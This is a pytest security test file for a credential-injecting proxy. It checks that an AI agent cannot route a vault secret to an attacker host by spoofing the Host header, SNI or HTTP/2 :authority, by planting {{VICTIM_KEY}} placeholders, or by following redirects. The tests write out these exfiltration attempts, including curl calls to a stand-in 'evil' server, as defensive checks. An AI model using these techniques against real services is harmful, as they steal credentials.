"""An agent tries to steer an injected credential to its own host (SPEC §5.3, §5.4, §5.6, §14.3, §14.5).

`api.upstream.test:<up>` is the vault's bearer service; `evil.upstream.test:<evil>` is the attacker's
server (valid certificate, allowed by the SSRF guard: the only thing stopping the credential is the
proxy's decision). Spoofed `Host`, TLS SNI and HTTP/2 `:authority` (Host and SNI both on the engine and on
the HTTP/1.1 fast path), placeholders aimed at unmatched hosts, and redirects from the real API to the
attacker: the attacker never receives any form of a value.
"""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager

import pytest
import trustme
from helpers.env import fast_path_suite
from helpers.proxy import basic, wait_audit
from security.conftest import (
    Forger,
    Sweep,
    SweptServer,
    h2_get,
    header_values,
    never_sent,
    new_secret,
    owner_patch_vault,
    proxy_error,
    start_server,
)

V: dict[str, str] = {}


@pytest.fixture(scope="module")
def srv(
    tmp_path_factory: pytest.TempPathFactory, upstream_ca: trustme.CA, sweep: Sweep, up: Forger
) -> Iterator[SweptServer]:
    for s in start_server(tmp_path_factory, upstream_ca, sweep, "routing"):
        V["VICTIM_KEY"], V["SCOPED_KEY"] = new_secret(), new_secret("/+=&y")
        for key, value in V.items():
            s.set_credential(key, value)
        s.add_service(
            {
                "name": "victim-api",
                "host": "api.upstream.test",
                "port": up.port,
                "auth": {"type": "bearer", "token": "VICTIM_KEY"},
            }
        )
        s.add_service(
            {
                "name": "scoped-api",
                "host": "other.upstream.test",
                "port": up.port,
                "path": "/echo/scoped",
                "methods": ["GET"],
                "auth": {"type": "api-key", "key": "SCOPED_KEY", "header": "X-Scoped"},
            }
        )
        yield s


@pytest.fixture(scope="module")
def token(srv: SweptServer) -> str:
    return srv.make_agent("router-bot")


@pytest.fixture(autouse=True)
def _clear(up: Forger, evil: Forger) -> None:
    up.requests_seen.clear()
    evil.requests_seen.clear()


@contextmanager
def policy(srv: SweptServer, name: str) -> Iterator[None]:
    owner_patch_vault(srv, unmatched_policy=name)
    try:
        yield
    finally:
        owner_patch_vault(srv, unmatched_policy="tunnel")


def _got_victim_key(up: Forger, n: int = 1) -> None:
    reqs = up.requests_seen.wait_for(n)
    assert [header_values(r, "authorization") for r in reqs] == [[f"Bearer {V['VICTIM_KEY']}"]] * n
    assert all(r["authority"] == f"api.upstream.test:{up.port}" for r in reqs), reqs


# ---- Host, SNI, :authority ------------------------------------------------------------------------


def test_host_header_never_decides(srv: SweptServer, up: Forger, evil: Forger, token: str) -> None:
    auth = {"Proxy-Authorization": basic(token)}
    with srv.raw() as conn:  # matched CONNECT target, Host names the attacker: goes to the target only
        assert conn.connect(f"api.upstream.test:{up.port}", auth).status == 200
        conn.start_tls("api.upstream.test", srv.ca_bundle)
        assert conn.request("GET", "/echo/h1", {"Host": f"evil.upstream.test:{evil.port}"}).status == 200
    _got_victim_key(up)
    with policy(srv, "passthrough"), srv.raw() as conn:  # attacker target, Host names the service
        assert conn.connect(f"evil.upstream.test:{evil.port}", auth).status == 200
        conn.start_tls("evil.upstream.test", srv.ca_bundle)
        r = conn.request("GET", "/echo/h2", {"Host": f"api.upstream.test:{up.port}"})
        assert r.status == 200 and r.json()["authority"] == f"evil.upstream.test:{evil.port}"
    with srv.raw() as conn:  # absolute-form: the URL decides, not Host
        r = conn.request(
            "GET",
            f"https://evil.upstream.test:{evil.port}/echo/h3",
            {"Host": f"api.upstream.test:{up.port}", **auth},
        )
        assert r.status == 200
    assert len(evil.requests_seen.snapshot()) == 2
    never_sent(evil, *V.values())
    assert len(up.requests_seen.snapshot()) == 1


def test_tls_sni_never_decides(srv: SweptServer, up: Forger, evil: Forger, token: str) -> None:
    auth = {"Proxy-Authorization": basic(token)}
    up.sni_seen.clear()
    with srv.raw() as conn:  # CONNECT to the service, SNI of the attacker
        conn.connect(f"api.upstream.test:{up.port}", auth)
        conn.start_tls("evil.upstream.test", srv.ca_bundle)
        assert conn.request("GET", "/echo/sni", {"Host": f"api.upstream.test:{up.port}"}).status == 200
    _got_victim_key(up)
    assert up.sni_seen == ["api.upstream.test"]  # the proxy's own TLS used the CONNECT target
    with policy(srv, "passthrough"), srv.raw() as conn:  # CONNECT to the attacker, SNI of the service
        conn.connect(f"evil.upstream.test:{evil.port}", auth)
        conn.start_tls("api.upstream.test", srv.ca_bundle)
        assert conn.request("GET", "/echo/sni2", {"Host": f"api.upstream.test:{up.port}"}).status == 200
    assert len(evil.requests_seen.snapshot()) == 1
    never_sent(evil, *V.values())


# The fast path (issue 24) serves TLS connections that offer ALPN http/1.1 and nothing else: the same two
# spoofs again, there. Its audit records say `served_by: fast` (unless the session runs with it off).
SERVED_BY = None if fast_path_suite() == "off" else "fast"


def _fast_record(srv: SweptServer, path: str) -> dict[str, object]:
    rec = wait_audit(srv.home, path=path)
    assert rec.get("served_by") == SERVED_BY, rec  # the variant really ran where it claims to
    return rec


def test_host_header_never_decides_on_the_fast_path(
    srv: SweptServer, up: Forger, evil: Forger, token: str
) -> None:
    auth = {"Proxy-Authorization": basic(token)}
    with srv.raw() as conn:  # matched CONNECT target, Host names the attacker: goes to the target only
        assert conn.connect(f"api.upstream.test:{up.port}", auth).status == 200
        tls = conn.start_tls("api.upstream.test", srv.ca_bundle, alpn=["http/1.1"])
        assert tls.selected_alpn_protocol() == "http/1.1"
        for path in ("/echo/fast-h1", "/echo/fast-h1b"):  # twice: keep-alive reuses the decision
            r = conn.request("GET", path, {"Host": f"evil.upstream.test:{evil.port}"})
            assert r.status == 200, r.body
    _got_victim_key(up, 2)
    rec = _fast_record(srv, "/echo/fast-h1b")
    assert rec["decision"] == "injected" and rec["host"] == "api.upstream.test", rec
    with policy(srv, "passthrough"), srv.raw() as conn:  # attacker target, Host names the service
        assert conn.connect(f"evil.upstream.test:{evil.port}", auth).status == 200
        tls = conn.start_tls("evil.upstream.test", srv.ca_bundle, alpn=["http/1.1"])
        assert tls.selected_alpn_protocol() == "http/1.1"
        r = conn.request("GET", "/echo/fast-h2", {"Host": f"api.upstream.test:{up.port}"})
        assert r.status == 200 and r.json()["authority"] == f"evil.upstream.test:{evil.port}", r.body
    rec = _fast_record(srv, "/echo/fast-h2")
    assert rec["decision"] != "injected" and rec["host"] == "evil.upstream.test", rec
    assert len(evil.requests_seen.snapshot()) == 1
    never_sent(evil, *V.values())
    assert len(up.requests_seen.snapshot()) == 2


def test_tls_sni_never_decides_on_the_fast_path(
    srv: SweptServer, up: Forger, evil: Forger, token: str
) -> None:
    auth = {"Proxy-Authorization": basic(token)}
    up.sni_seen.clear()
    with srv.raw() as conn:  # CONNECT to the service, SNI of the attacker
        assert conn.connect(f"api.upstream.test:{up.port}", auth).status == 200
        tls = conn.start_tls("evil.upstream.test", srv.ca_bundle, alpn=["http/1.1"])
        assert tls.selected_alpn_protocol() == "http/1.1"
        r = conn.request("GET", "/echo/fast-sni", {"Host": f"api.upstream.test:{up.port}"})
        assert r.status == 200, r.body
    _got_victim_key(up)
    assert up.sni_seen == ["api.upstream.test"]  # the proxy's own TLS used the CONNECT target
    rec = _fast_record(srv, "/echo/fast-sni")
    assert rec["decision"] == "injected" and rec["host"] == "api.upstream.test", rec
    with policy(srv, "passthrough"), srv.raw() as conn:  # CONNECT to the attacker, SNI of the service
        assert conn.connect(f"evil.upstream.test:{evil.port}", auth).status == 200
        tls = conn.start_tls("api.upstream.test", srv.ca_bundle, alpn=["http/1.1"])
        assert tls.selected_alpn_protocol() == "http/1.1"
        r = conn.request("GET", "/echo/fast-sni2", {"Host": f"api.upstream.test:{up.port}"})
        assert r.status == 200 and r.json()["authority"] == f"evil.upstream.test:{evil.port}", r.body
    rec = _fast_record(srv, "/echo/fast-sni2")
    assert rec["decision"] != "injected" and rec["host"] == "evil.upstream.test", rec
    assert len(evil.requests_seen.snapshot()) == 1 and len(up.requests_seen.snapshot()) == 1
    never_sent(evil, *V.values())


def test_http2_authority_never_decides(srv: SweptServer, up: Forger, evil: Forger, token: str) -> None:
    auth = {"Proxy-Authorization": basic(token)}
    with srv.raw() as conn:
        conn.connect(f"api.upstream.test:{up.port}", auth)
        tls = conn.start_tls("api.upstream.test", srv.ca_bundle, alpn=["h2"])
        assert tls.selected_alpn_protocol() == "h2"
        status, _, body = h2_get(tls, f"evil.upstream.test:{evil.port}", "/echo/authority")
    srv.sweep.record("h2 answer", body)
    assert status == 200, body
    _got_victim_key(up)
    with policy(srv, "passthrough"), srv.raw() as conn:
        conn.connect(f"evil.upstream.test:{evil.port}", auth)
        tls = conn.start_tls("evil.upstream.test", srv.ca_bundle, alpn=["h2"])
        status, _, body = h2_get(tls, f"api.upstream.test:{up.port}", "/echo/authority2")
    srv.sweep.record("h2 answer", body)
    assert status == 200, body
    assert up.requests_seen.snapshot()[1:] == [] and len(evil.requests_seen.snapshot()) == 1
    never_sent(evil, *V.values())


# ---- placeholders ---------------------------------------------------------------------------------


@pytest.mark.parametrize("mode", ["tunnel", "passthrough", "deny"])
def test_placeholders_aimed_at_an_unmatched_host_are_never_substituted(
    srv: SweptServer, evil: Forger, token: str, mode: str
) -> None:
    """`tunnel`: not intercepted, relayed as sent (literal); `deny`: refused by policy;
    `passthrough`: intercepted and refused as exfiltration (issue #20); never substituted."""
    ph = "{{VICTIM_KEY}}"
    with policy(srv, mode), srv.agent_client(token) as c:
        r = c.post(
            f"https://evil.upstream.test:{evil.port}/echo/%7B%7BVICTIM_KEY%7D%7D",
            params={"q": ph, "r": "{{ VICTIM_KEY }}"},
            headers={"X-Ph": ph, "Authorization": f"Bearer {ph}", "Cookie": f"s={ph}"},
            json={"a": ph},
        )
    if mode in ("deny", "passthrough"):
        code = "service_not_allowed" if mode == "deny" else "exfiltration_blocked"
        proxy_error(r.status_code, dict(r.headers), r.content, code)
        assert evil.requests_seen.snapshot() == []
        return
    assert r.status_code == 200
    (seen,) = evil.requests_seen.wait_for(1)
    assert header_values(seen, "x-ph") == [ph] and header_values(seen, "authorization") == [f"Bearer {ph}"]
    assert "VICTIM_KEY" in seen["path"] and b"{{VICTIM_KEY}}" in seen["body"]
    never_sent(evil, *V.values())


def test_placeholder_for_another_services_key_is_refused(srv: SweptServer, up: Forger, token: str) -> None:
    """SCOPED_KEY belongs to scoped-api: a request to victim-api cannot pull it in, anywhere (issue
    #20: such a placeholder is refused as exfiltration, before the upstream)."""
    with srv.agent_client(token) as c:
        r = c.get(
            f"https://api.upstream.test:{up.port}/echo/{{{{SCOPED_KEY}}}}",
            params={"q": "{{SCOPED_KEY}}"},
            headers={"X-Ph": "{{ SCOPED_KEY }}"},
        )
    proxy_error(r.status_code, dict(r.headers), r.content, "exfiltration_blocked")
    assert up.requests_seen.snapshot() == []
    never_sent(up, V["SCOPED_KEY"])


def test_scoped_service_gets_its_key_only_on_its_port_path_and_method(
    srv: SweptServer, up: Forger, evil: Forger, token: str
) -> None:
    with policy(srv, "passthrough"), srv.agent_client(token) as c:
        assert c.get(f"https://other.upstream.test:{up.port}/echo/scoped/ok").status_code == 200
        assert header_values(up.requests_seen.wait_for(1)[0], "x-scoped") == [V["SCOPED_KEY"]]
        up.requests_seen.clear()
        r = c.post(f"https://other.upstream.test:{up.port}/echo/scoped/no")
        proxy_error(r.status_code, dict(r.headers), r.content, "method_not_allowed")
        assert (
            c.get(f"https://other.upstream.test:{up.port}/echo/scopedx").status_code == 200
        )  # not the prefix
        assert c.get(f"https://other.upstream.test:{up.port}/echo").status_code == 200
        assert (
            c.get(f"https://other.upstream.test:{evil.port}/echo/scoped/ok").status_code == 200
        )  # other port
    assert len(up.requests_seen.snapshot()) == 2 and len(evil.requests_seen.snapshot()) == 1
    never_sent(up, V["SCOPED_KEY"])
    never_sent(evil, *V.values())


# ---- redirects ------------------------------------------------------------------------------------


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_redirect_to_the_attacker_carries_no_credential(
    srv: SweptServer, up: Forger, evil: Forger, token: str, status: int
) -> None:
    stolen = f"https://evil.upstream.test:{evil.port}/echo/stolen"
    with srv.agent_client(token, follow_redirects=True) as c:
        r = c.post(
            f"https://api.upstream.test:{up.port}/redirect",
            params={"to": stolen, "status": status},
            content=b"payload",
        )
    assert r.status_code == 200 and r.url.host == "evil.upstream.test", r.text
    _got_victim_key(up)
    assert len(evil.requests_seen.snapshot()) == 1
    never_sent(evil, *V.values())


def test_redirect_to_the_same_name_on_the_attackers_port(
    srv: SweptServer, up: Forger, evil: Forger, token: str
) -> None:
    """The service is bound to its port: `api.upstream.test:<evil>` is another place."""
    for policy_name in ("tunnel", "passthrough"):
        with policy(srv, policy_name), srv.agent_client(token, follow_redirects=True) as c:
            r = c.get(
                f"https://api.upstream.test:{up.port}/redirect",
                params={"to": f"https://api.upstream.test:{evil.port}/echo/same-name"},
            )
        assert r.status_code == 200 and r.url.port == evil.port
    assert len(evil.requests_seen.snapshot()) == 2
    never_sent(evil, *V.values())


def test_redirect_with_curl_follow(srv: SweptServer, up: Forger, evil: Forger, token: str) -> None:
    stolen = f"https://evil.upstream.test:{evil.port}/echo/curl-stolen"
    cp = srv.curl(
        token,
        "-L",
        "--location-trusted",
        "-G",
        "--data-urlencode",
        f"to={stolen}",
        f"https://api.upstream.test:{up.port}/redirect",
    )
    assert cp.stdout.endswith("\n200"), cp.stdout + cp.stderr
    _got_victim_key(up)
    never_sent(evil, *V.values())


def test_placeholder_smuggled_into_a_redirect_location_is_redacted(
    srv: SweptServer, up: Forger, evil: Forger, token: str
) -> None:
    """The agent asks the real API to redirect to `evil/?k={{VICTIM_KEY}}`: the proxy substitutes the
    placeholder (query surface of the service) and the API echoes it into `Location` - which must be
    redacted before the client sees (and follows) it."""
    loc = f"https://evil.upstream.test:{evil.port}/echo/chain?k={{{{VICTIM_KEY}}}}"
    with srv.agent_client(token, follow_redirects=True) as c:
        r = c.get(f"https://api.upstream.test:{up.port}/redirect", params={"to": loc})
    (seen_up,) = up.requests_seen.wait_for(1)
    assert "VICTIM_KEY" not in seen_up["path"]  # the substitution really happened upstream
    assert r.status_code == 200 and r.url.host == "evil.upstream.test"
    (seen_evil,) = evil.requests_seen.wait_for(1)
    assert "REDACTED" in seen_evil["path"], seen_evil["path"]
    never_sent(evil, *V.values())
    assert r.history and all(V["VICTIM_KEY"] not in h.headers.get("location", "") for h in r.history)


def test_curl_http2_through_the_proxy_keeps_the_decision(srv: SweptServer, up: Forger, token: str) -> None:
    cp = srv.curl(
        token,
        "--http2",
        "-H",
        f"Host: evil.upstream.test:{up.port}",
        f"https://api.upstream.test:{up.port}/echo/curl-h2",
    )
    assert cp.stdout.endswith("\n200"), cp.stdout + cp.stderr
    _got_victim_key(up)
    assert up.requests_seen.snapshot()[0]["http_version"] in ("HTTP/2", "HTTP/1.1")
